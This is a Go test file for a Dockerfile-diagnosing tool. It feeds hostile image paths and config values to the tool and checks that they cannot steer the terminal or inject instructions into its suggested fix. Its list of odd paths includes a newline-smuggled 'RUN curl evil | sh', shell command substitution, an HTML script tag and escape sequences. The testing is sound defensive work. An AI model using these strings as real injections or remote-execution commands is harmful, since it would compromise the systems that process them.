package faults

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"optimizing-dockerfile/internal/doctor"
	"optimizing-dockerfile/test/corpus"
	"optimizing-dockerfile/test/engines"
	"optimizing-dockerfile/test/tool"
)

func TestMain(m *testing.M) {
	if !engines.Wanted() {
		status := m.Run()
		tool.Remove()
		os.Exit(status)
	}
	os.Exit(tool.Main(m))
}

// oddPaths are names that somebody may give to what is in an image.
var oddPaths = []string{
	"/my app", `/it's "quoted"`, "/a\nRUN curl evil | sh", "/\x1b[31mred\a\r\b", "/\u009b31m\u202etxt", "/-v", "/--help",
	"/$HOME;`id`&", "/<script>alert(1)</script>", "/{{.Name}}%s%d", `/a\nb`, "/ends ", "/*?[a]", "/" + strings.Repeat("long", 60),
}

// broken makes images that cannot start, or hardly, of a path.
var broken = map[string]func(path string) corpus.Spec{
	"missing": func(p string) corpus.Spec { return corpus.Spec{Entrypoint: []string{p, p}} },
	"no x": func(p string) corpus.Spec {
		return corpus.Spec{Entrypoint: []string{p}, Files: map[string]corpus.File{p: {Mode: 0o644, Data: []byte("x")}}}
	},
	"closed": func(p string) corpus.Spec {
		return corpus.Spec{Entrypoint: []string{p}, User: "7:7", Files: map[string]corpus.File{p: {Mode: 0o700, Data: []byte("x")}}}
	},
	"text": func(p string) corpus.Spec {
		return corpus.Spec{Entrypoint: []string{p}, Files: map[string]corpus.File{p: {Mode: 0o755, Data: []byte("text")}}}
	},
	"crlf": func(p string) corpus.Spec {
		return corpus.Spec{Entrypoint: []string{p}, Files: map[string]corpus.File{p: {Mode: 0o755, Data: []byte("#!/bin/sh\r\n")}}}
	},
	"interpreter": func(p string) corpus.Spec {
		return corpus.Spec{Entrypoint: []string{p}, Files: map[string]corpus.File{p: {Mode: 0o755, Data: []byte("#!/bin/bash\n")}}}
	},
	"folder": func(p string) corpus.Spec {
		return corpus.Spec{Entrypoint: []string{p}, Files: map[string]corpus.File{p + "/x": {Mode: 0o755, Data: []byte("x")}}}
	},
	"through": func(p string) corpus.Spec {
		return corpus.Spec{Entrypoint: []string{p + "/x"}, Files: map[string]corpus.File{p: {Mode: 0o755, Data: []byte("x")}}}
	},
	"dangling": func(p string) corpus.Spec {
		return corpus.Spec{Entrypoint: []string{p}, Files: map[string]corpus.File{p: {Link: "/gone" + p}}}
	},
	"user": func(p string) corpus.Spec { return corpus.Spec{Entrypoint: []string{"/x"}, User: p} },
	"workdir": func(p string) corpus.Spec {
		return corpus.Spec{Entrypoint: []string{"/x"}, WorkingDir: p, Files: map[string]corpus.File{p: {Mode: 0o644, Data: []byte("x")}}}
	},
	"PATH": func(p string) corpus.Spec {
		return corpus.Spec{Entrypoint: []string{"program"}, Env: []string{"PATH=" + p, p + "=" + p}, Healthcheck: []string{"CMD", p}}
	},
}

// Whatever the paths and the config of an image are called: the doctor finds what
// it finds under a plain name, nothing steers the terminal, and nothing that the
// image brings becomes an instruction of the fix.
func TestFaultHostileImages(t *testing.T) {
	t.Setenv("CONTAINER_ENGINE", "no-such-engine")
	examined := 0
	for kind, make := range broken {
		plain := diagnosed(t, make("/plain"))
		for _, path := range oddPaths {
			spec := make(path)
			d := diagnosed(t, spec)
			examined++
			assert.Equal(t, plain.Cause, d.Cause, "%s %q", kind, path)
			if kind != "user" { // it ends there
				assert.Equal(t, spec.Entrypoint, d.Argv, "%s %q", kind, path)
			}
			want := instructions(plain)
			if kind == "missing" && len(strings.Fields(path)) > 1 { // it may be a command line in one string
				want = []string{"ENTRYPOINT"}
			}
			assert.Equal(t, want, instructions(d), "%s %q:\n%s", kind, path, d.Fix.Dockerfile)
			for _, colour := range []bool{false, true} {
				var screen bytes.Buffer
				d.Image = path
				require.NoError(t, doctor.Screen(&screen, d, colour, 80))
				harmlessBytes(t, kind, ownColours.ReplaceAllString(screen.String(), ""))
				assert.Equal(t, 1, strings.Count(screen.String(), "CANNOT START"))
			}
		}
	}
	Row(t, "images with blanks, quotes, line ends, escapes, HTML, options in paths and config",
		"%d images, each with the cause of its plain twin, 0 control characters sent, 0 instructions smuggled in", examined)
}

var ownColours = regexp.MustCompile(`\x1b\[[0-9;]*m(?:CANNOT START|UNKNOWN|STARTS|Evidence|Fix|Also)\x1b\[0m`)

// diagnosed is what the verb prints as JSON about an image in a tarball.
func diagnosed(t *testing.T, spec corpus.Spec) *doctor.Diagnosis {
	t.Helper()
	status, out, complaint := tool.Run(t, "", "doctor", saved(t, spec), "--json")
	require.Contains(t, []int{tool.Unexpected, tool.Environment}, status, complaint)
	harmlessBytes(t, "the JSON", out)
	d := &doctor.Diagnosis{}
	require.NoError(t, json.Unmarshal([]byte(out), d))
	return d
}

func saved(t *testing.T, spec corpus.Spec) string {
	at := filepath.Join(t.TempDir(), "image.tar")
	file, err := os.Create(at)
	require.NoError(t, err)
	require.NoError(t, corpus.Save(file, map[string]corpus.Spec{"x:latest": spec}, map[string]string{"a\x1b": "b\n"}))
	require.NoError(t, file.Close())
	return at
}

// instructions are the first words of a fix's lines.
func instructions(d *doctor.Diagnosis) (words []string) {
	for _, line := range strings.Split(d.Fix.Dockerfile, "\n") {
		word, _, _ := strings.Cut(line, " ")
		words = append(words, word)
	}
	return words
}

// What begins like an option is none: as an image's name, a file's, a folder's or a step's.
func TestFaultNamesLikeOptions(t *testing.T) {
	repo, err := filepath.Abs("../..")
	require.NoError(t, err)
	t.Setenv("CONTAINER_ENGINE", "no-such-engine")
	whole, err := os.ReadFile(saved(t, broken["missing"]("/x")))
	require.NoError(t, err)
	odd := t.TempDir()
	t.Chdir(odd)
	for _, name := range []string{"-v", "--help", "-", "a b", "a\nb", "\x1b[31m"} {
		require.NoError(t, os.WriteFile(name, whole, 0o644))
	}
	require.NoError(t, os.Mkdir("folder", 0o755))
	tried, answer := 0, ""
	for _, c := range []struct {
		args   []string
		status int
	}{
		{[]string{"doctor", "./-v"}, tool.Unexpected},
		{[]string{"doctor", "./--help"}, tool.Unexpected},
		{[]string{"doctor", "./a b"}, tool.Unexpected},
		{[]string{"doctor", "./a\nb"}, tool.Unexpected},
		{[]string{"doctor", "./\x1b[31m"}, tool.Unexpected},
		{[]string{"doctor", "./-v:--help"}, tool.Environment}, // no such tag in it
		{[]string{"doctor", "-v"}, tool.Usage},
		{[]string{"doctor", "--", "-v"}, tool.Usage},
		{[]string{"doctor", "./folder"}, tool.Environment},
		{[]string{"run", "--", "-v"}, tool.Usage},
		{[]string{"run", "1", "--base", "-v:x"}, tool.Usage},
		{[]string{"run", "1", "--base", "--help"}, tool.Usage},
		{[]string{"run", "1", "--base", "", "--json"}, tool.Environment}, // the default, and no engine
		{[]string{"run", "\x1b[31m"}, tool.Usage},
		{[]string{"run", "--steps", "steps", "beyond", "8"}, tool.Usage},
		{[]string{"check", "--", "--help"}, tool.Usage},
		{[]string{"diff", "--", "-1"}, tool.Usage},
	} {
		dir := repo
		if c.args[0] == "doctor" {
			dir = odd
		}
		status, out, complaint := tool.Run(t, dir, c.args...)
		assert.Equal(t, c.status, status, "%q: %s", c.args, complaint)
		harmlessBytes(t, strings.Join(c.args, " "), out+complaint)
		tried, answer = tried+1, Said(status, complaint, "")
	}
	Row(t, "images, files, folders and steps named -v, --help, with line ends and escapes", "%d calls, each with its status%s", tried, answer)
}

// harmlessBytes fails the test where a text holds what a terminal obeys.
func harmlessBytes(t *testing.T, where, text string) {
	t.Helper()
	for i, r := range text {
		if r < ' ' && r != '\n' && r != '\t' || r >= 0x7f && r < 0xa0 || r == 0x202e {
			t.Fatalf("%s holds %q: …%q…", where, r, text[max(0, i-40):min(len(text), i+40)])
		}
	}
}
